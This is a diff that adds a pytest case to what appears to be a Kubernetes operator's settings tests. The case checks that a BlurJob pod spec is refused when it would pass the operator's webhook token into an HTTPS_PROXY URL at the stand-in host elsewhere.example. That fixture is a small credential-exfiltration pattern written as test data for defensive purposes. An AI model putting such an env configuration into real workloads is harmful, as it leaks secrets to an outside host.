@@ -7,6 +7,7 @@ from pathlib import Path
 
 import pytest
 
+from baas_crds.blurjob import BlurJobSpec
 from baas_crds.codes import ExitCode
 from baas_crds.errors import ConfigurationError
 from baas_crds.places import SecretKey
@@ -87,6 +88,21 @@ def test_credentials_of_telemetry_are_no_blurjobs_either(environment: pytest.Mon
     environment.setenv("BAAS_OPERATOR_WORKER_ENV", json.dumps(variables))
     own = read_settings().limits().own_secrets
     assert own == (SecretKey(name="baas-ledger", key="url"), SecretKey(**of_telemetry))
+
+
+def test_a_blurjob_that_would_send_the_webhooks_token_to_its_own_proxy_is_refused(
+    environment: pytest.MonkeyPatch,
+) -> None:
+    token = {"name": "webhook", "key": "token"}
+    environment.setenv("BAAS_OPERATOR_OWN_SECRETS", json.dumps([{"name": "webhook", "key": "url"}, token]))
+    thief = [
+        {"name": "PROXY_TOKEN", "valueFrom": {"secretKeyRef": token}},
+        {"name": "HTTPS_PROXY", "value": "http://$(PROXY_TOKEN):x@elsewhere.example:3128"},
+    ]
+    places = {"source": {"volume": {"claimName": "raw"}}, "output": {"volume": {"claimName": "safe"}}}
+    spec = BlurJobSpec.model_validate(places | {"podTemplate": {"env": thief}})
+    said = read_settings().limits().refusal(spec)
+    assert said.startswith("spec.podTemplate.env[PROXY_TOKEN] names token of the Secret webhook, which is the install")
 
 
 def test_a_webhook_has_an_address_and_perhaps_a_token(environment: pytest.MonkeyPatch) -> None:
